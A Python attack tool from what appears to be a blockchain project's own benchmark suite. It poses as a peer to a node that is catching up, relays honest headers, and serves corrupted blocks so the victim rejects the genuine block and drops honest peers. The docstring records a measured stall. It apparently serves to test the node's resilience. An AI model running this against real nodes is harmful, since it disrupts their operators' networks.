"""Sync poisoner - position: **a peer of a node that is catching up** (a new node, or one back from downtime); a
variant the issue does not list.

It dials the victim with a HELLO claiming the source's best height, forwards the victim's GETHEADERS and GETDATA
to an honest source node (H), passes the headers back unchanged, and answers every block the victim asked for with
a corrupt copy (benchmarks.attacks.protocol.tamper, kind ``--kind``). Headers-first sync spreads block requests
over the peers that cover them, so the victim asks it for some blocks; the first corrupt copy is refused and its
header hash remembered, and from then on the victim answers the genuine block ``already-rejected`` from every
honest peer, by sync or gossip: it stays behind that block until it restarts. What was asked for is never
penalised, so the honest peers that serve the genuine block are dropped for stalling instead.

Measured by hand (docs/ATTACKS.md): a fresh node whose only early peer was this one stayed at height 0 while the
network was at height 4, 45 s after an honest node holding the chain had connected to it.

    python -m benchmarks.attacks.syncpoison --genesis G --source H=HOST:PORT --victim V3=HOST:PORT --out F
"""
from __future__ import annotations

import argparse
import asyncio
import json
import signal
import sys
import time
from pathlib import Path

from benchmarks.attacks.protocol import TAMPER_KINDS, identity, is_round_block, tamper
from benchmarks.attacks.racer import parse_endpoint
from benchmarks.attacks.wire_peer import AddressPool, WirePeer
from chain.block import Block
from chain.errors import DecodeError
from consensus.protocol.genesis import load_genesis
from node import wire
from node.wire import InvKind


async def run(args: argparse.Namespace) -> None:
    g = load_genesis(args.genesis.read_bytes())
    first, _, last = args.addresses.partition("-")
    pool = AddressPool(first, last)
    _, sh, sp = parse_endpoint(args.source)
    _, vh, vp = parse_endpoint(args.victim)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    links: dict[str, WirePeer] = {}

    async def from_source(_peer: WirePeer, msg: wire.Message) -> None:
        victim = links.get("victim")
        if victim is None:
            return
        if isinstance(msg, wire.Headers):
            await victim.send(msg)
        elif isinstance(msg, wire.Object) and msg.kind == InvKind.BLOCK:
            try:
                block = Block.decode(msg.data)
            except (DecodeError, ValueError):
                return
            if is_round_block(block):
                await victim.send(wire.Object(InvKind.BLOCK, tamper(block, args.kind).encode()))
                with args.out.open("a") as f:
                    f.write(json.dumps({"t": time.time(), "block": identity(block).hex(),
                                        "height": block.header.height, "kind": args.kind}) + "\n")

    async def from_victim(_peer: WirePeer, msg: wire.Message) -> None:
        if isinstance(msg, (wire.GetHeaders, wire.GetData)) and "source" in links:
            await links["source"].send(msg)

    source = WirePeer(sh, sp, g.chain_id, g.hash, source_ip=pool.take(), on_message=from_source,
                      agent="syncpoison/0.1")
    if not await source.connect():
        raise SystemExit(f"cannot reach the source: {source.error}")
    assert source.hello is not None
    links["source"] = source
    victim = WirePeer(vh, vp, g.chain_id, g.hash, source_ip=pool.take(), on_message=from_victim,
                      best_height=source.hello.best_height, best_round=source.hello.best_round, agent="syncpoison/0.1")
    if not await victim.connect():
        raise SystemExit(f"cannot reach the victim: {victim.error}")
    links["victim"] = victim
    await stop.wait()
    await victim.close()
    await source.close()


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m benchmarks.attacks.syncpoison", description=__doc__.split("\n")[0])
    ap.add_argument("--genesis", type=Path, required=True)
    ap.add_argument("--source", required=True, help="NAME=HOST:PORT of an honest node that has the chain")
    ap.add_argument("--victim", required=True, help="NAME=HOST:PORT of the node that is catching up")
    ap.add_argument("--kind", default="sig", choices=TAMPER_KINDS)
    ap.add_argument("--addresses", default="127.0.16.1-127.0.17.254", help="loopback source range FIRST-LAST")
    ap.add_argument("--out", type=Path, required=True, help="JSON lines, one per corrupt block served")
    asyncio.run(run(ap.parse_args(argv)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
